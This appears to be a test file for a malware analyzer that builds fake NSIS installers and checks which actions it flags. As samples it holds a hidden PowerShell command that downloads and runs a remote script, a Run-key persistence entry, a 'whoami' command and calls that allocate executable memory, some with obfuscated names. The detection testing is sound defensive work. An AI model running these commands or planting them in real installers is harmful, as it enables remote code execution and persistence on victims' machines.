// NSIS: what the compiled script does, members, packing; hostile tables end.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile, type FileReport } from '../../../src/index.ts'
import { EICAR } from '../archives/member.ts'
import { buildPe } from '../pe/build-pe.ts'
import { NSIS, type NsisRecipe, writeNsis } from './write-nsis.ts'

const now = new Date('2026-01-01T00:00:00Z')
const install = (recipe: NsisRecipe): Promise<FileReport> =>
  analyzeFile(buildPe({ overlay: Buffer.concat([Buffer.alloc(8), writeNsis(recipe)]) }), { fileName: 'setup.exe', now })

const actions = ({ root }: FileReport) => root.children[0]?.facts.installer?.actions
const HKCU = 0x80000001
const RUN_KEY = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'

for (const packing of ['deflate', 'stored', 'solid'] as const)
  test(`the script and the members of an installer, ${packing}`, async () => {
    const report = await install({
      packing,
      members: [{ name: 'eicar.com', bytes: EICAR }],
      entries: [
        [NSIS.run, '"$INSTDIR\\a.exe" /s'],
        [NSIS.registry, HKCU, RUN_KEY, 'Demo', '$INSTDIR\\a.exe', 1],
        [NSIS.rename, '$TEMP\\a', '$TEMP\\b.exe'],
      ],
    })
    assert.equal(report.verdict.label, 'malicious')
    assert.equal(report.root.children[0]?.facts.installer?.name, 'Demo')
    assert.deepEqual(actions(report), [
      { kind: 'run', text: '"$INSTDIR\\a.exe" /s' },
      { kind: 'registry', text: `HKCU\\${RUN_KEY} Demo = $INSTDIR\\a.exe` },
      { kind: 'rename', text: '$TEMP\\a -> $TEMP\\b.exe' },
    ])
  })

test('a command that is put together from variables is read whole, one from outside is not guessed', async () => {
  const report = await install({
    entries: [
      [NSIS.assign, 0, 'power', 0, 0],
      [NSIS.assign, 1, '$0shell', 0, 0],
      [NSIS.run, '$1 -w hidden iex (iwr http://a.example/x.ps1)'],
      [NSIS.push, 0, 1, 0],
      [NSIS.run, '$0'],
    ],
  })
  assert.deepEqual(
    actions(report)?.map(({ text }) => text),
    ['powershell -w hidden iex (iwr http://a.example/x.ps1)', '$0'],
  )
  assert.ok(report.root.children[0]?.findings.some(({ id }) => id === 'script_runs_downloaded_text'))
})

test('a plug-in that runs a command is told with the command', async () => {
  const report = await install({
    entries: [
      [NSIS.push, 'cmd /c whoami', 0, 0],
      [NSIS.call, '$TEMP\\nsExec.dll', 'Exec'],
      [NSIS.push, 'kernel32::GetVersion()', 0, 0],
      [NSIS.call, '$TEMP\\System.dll', 'Call'],
    ],
  })
  assert.deepEqual(actions(report), [
    { kind: 'run', text: 'cmd /c whoami' },
    { kind: 'call', text: 'System.dll Call kernel32::GetVersion()' },
  ])
})

test('an ordinary installer stays clean', async () => {
  const report = await install({
    entries: [
      [NSIS.run, '"$INSTDIR\\vcredist_x86.exe" /q /norestart'],
      [NSIS.run, 'taskkill /IM demo.exe'],
      [NSIS.open, 'open', 'https://www.example.com/thanks', '', 1],
      [NSIS.registry, 0x80000002, 'Software\\Demo', 'Path', '$INSTDIR', 1],
    ],
    members: [{ name: 'readme.txt', bytes: Buffer.from('Read me.') }],
  })
  assert.equal(report.verdict.label, 'clean', report.verdict.summary)
})

const memory: Readonly<Record<string, readonly [call: string, hit: boolean]>> = {
  'memory for code': ['kernel32::VirtualAlloc(i 0, i 4096, i 0x3000, i 0x40) p .r1', true],
  'made executable': ['kernel32::VirtualProtect(p r1, i 4096, i 64, *i .r2)', true],
  'by the system call': ['ntdll::NtAllocateVirtualMemory(i -1, *i .r1, i 0, *i 4096, i 0x3000, i 0x00000040)', true],
  'a section of memory': ['ntdll::NtMapViewOfSection(p r2, i -1, p r3, n, n, n, p r4, i 2, n, i 0x40)', true],
  'a section of memory by pieces of its name': [
    "user32::wsprintf(p r5, t '%s%s%s', t 'ntdll::NtC', t 'reate',t 'Section(p r2, i ')",
    true,
  ],
  'a text out of pieces': ["user32::wsprintf(p r5, t '%s%s', t 'Section', t ' of the manual')", false],
  'memory for data': ['kernel32::VirtualAlloc(i 0, i 4096, i 0x3000, i 0x04) p .r1', false],
  'memory of 0x40 bytes': ['kernel32::GlobalAlloc(i 0x40, i 64)', false],
  'the version': ['kernel32::GetVersion()', false],
  'a mutex': ['kernel32::CreateMutex(p 0, i 1, t "demo") p .r1 ?e', false],
}

for (const [what, [call, hit]] of Object.entries(memory))
  test(`installer_runs_code_from_memory: ${what}`, async () => {
    const report = await install({
      entries: [
        [NSIS.push, call, 0, 0],
        [NSIS.call, '$TEMP\\System.dll', 'Call'],
      ],
    })
    const ids = report.root.children[0]?.findings.map(({ id }) => id) ?? []
    assert.equal(ids.includes('installer_runs_code_from_memory'), hit)
  })
